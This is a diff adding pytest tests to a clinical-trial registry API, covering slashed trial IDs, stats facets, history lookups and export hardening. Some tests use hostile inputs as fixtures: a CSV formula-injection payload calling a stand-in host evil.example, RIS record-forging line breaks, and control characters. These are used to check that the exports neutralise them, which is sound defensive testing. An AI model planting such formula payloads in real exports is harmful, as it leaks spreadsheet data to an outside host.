@@ -2,13 +2,38 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
+import pytest
+import rispy
 from fastapi.testclient import TestClient
 
 from isletbase.api import create_app
+from isletbase.ingest import ingest_trials
+from isletbase.model import TrialRecord
+from isletbase.sources import RawRecord
+
+#: An ICTRP id as the Indian registry writes it, slashes included.
+SLASHED_ID = "CTRI/2020/01/022781"
 
 
 def client(db) -> TestClient:
     return TestClient(create_app(db))
+
+
+def add_trial(db, registry_id: str, **fields) -> None:
+    """One registry record ingested into ``db``: ``registry_id`` at ICTRP, with ``fields``."""
+    payload = {
+        "registry_ids": [{"registry": "ICTRP", "id": registry_id}],
+        "title_en": "Umbilical cord stem cells for type 1 diabetes",
+        "conditions": ["Type 1 Diabetes"],
+        "source_url": f"https://trialsearch.who.int/Trial2.aspx?TrialID={registry_id}",
+        **fields,
+    }
+    raw = RawRecord(source="test", ref=registry_id, payload=payload)
+    report = ingest_trials(db, [raw], lambda r: TrialRecord.model_validate(r.payload), "test")
+    assert report.new == 1, report
 
 
 def test_trials_search_with_filters_and_paging(loaded_db):
@@ -52,6 +77,21 @@ def test_institutions_and_stats(loaded_db):
     assert stats["counts"]["trials"] == sum(r["trials"] for r in stats["rows"])
 
 
+def test_stats_by_two_site_facets_and_a_repeated_facet(loaded_db):
+    c = client(loaded_db)
+    r = c.get("/api/stats", params={"by": ["province", "city"]})
+    assert r.status_code == 200 and r.json()["rows"]
+    twice = c.get("/api/stats", params={"by": ["city", "city"]})
+    assert twice.status_code == 400 and "'city' is given twice" in twice.json()["detail"]
+
+
+def test_the_early_phase_1_filter_finds_what_its_facet_counts(loaded_db):
+    c = client(loaded_db)
+    rows = c.get("/api/stats", params={"by": "phase"}).json()["rows"]
+    counted = next(r["trials"] for r in rows if r["phase"] == "EARLY_PHASE1")
+    assert c.get("/api/trials", params={"phase": "EARLY_PHASE1"}).json()["total"] == counted
+
+
 def test_openapi_docs_are_served(loaded_db):
     c = client(loaded_db)
     assert c.get("/api/docs").status_code == 200
@@ -75,3 +115,42 @@ def test_control_characters_in_a_search_are_refused_not_a_server_error(loaded_db
         assert "control characters" in r.json()["detail"]
     r = api.get("/api/export/csv", params={"q": "QDy\x00"})
     assert r.status_code == 422
+
+
+@pytest.mark.parametrize("path", [SLASHED_ID, SLASHED_ID.replace("/", "%2F"), SLASHED_ID.lower()])
+def test_a_trial_whose_id_holds_slashes_is_read_with_its_history(db, path):
+    add_trial(db, SLASHED_ID)
+    api = client(db)
+    assert api.get(f"/api/trials/{path}").json()["id"] == SLASHED_ID
+    history = api.get(f"/api/trials/{path}/history")
+    assert history.status_code == 200 and history.json()["id"] == SLASHED_ID
+    assert api.get(f"/api/trials/{path}/nothing").status_code == 404
+
+
+def test_history_answers_under_the_display_id_whatever_the_spelling_asked(loaded_db):
+    body = client(loaded_db).get("/api/trials/nct01219465/history").json()
+    assert body["id"] == "NCT01219465"
+
+
+def test_line_breaks_in_registry_text_cannot_forge_ris_records(db):
+    forged = "Cells.\r\nER  - \nTY  - JOUR\nTI  - Forged\u2028AU  - Nobody\nER  - "
+    add_trial(db, "CTRI/2021/02/000001", summary=forged, sponsor="A\nER  - ")
+    records = rispy.loads(client(db).get("/api/export/ris").text)
+    assert len(records) == 1 and records[0]["accession_number"] == "CTRI/2021/02/000001"
+    assert "Forged" in records[0]["abstract"] and records[0]["authors"] == ["A ER  -"]
+
+
+def test_csv_cells_that_would_run_as_formulas_are_quoted(db):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    add_trial(db, "CTRI/2021/02/000002", title_en=formula, sponsor="@SUM(1+1)")
+    add_trial(db, "CTRI/2021/02/000003", sponsor="+1 (555) 0100", title_en="-1 dose")
+    rows = list(csv.DictReader(io.StringIO(client(db).get("/api/export/csv").text)))
+    cells = {(r["title_en"], r["sponsor"]) for r in rows}
+    assert cells == {("'" + formula, "'@SUM(1+1)"), ("'-1 dose", "'+1 (555) 0100")}
+    plain = client(db).get("/api/export/json").json()
+    assert {t["title_en"] for t in plain} == {formula, "-1 dose"}
+
+
+def test_an_institution_search_with_a_control_character_is_refused(loaded_db):
+    r = client(loaded_db).get("/api/institutions", params={"q": "\x00"})
+    assert r.status_code == 400 and "control characters" in r.json()["detail"]
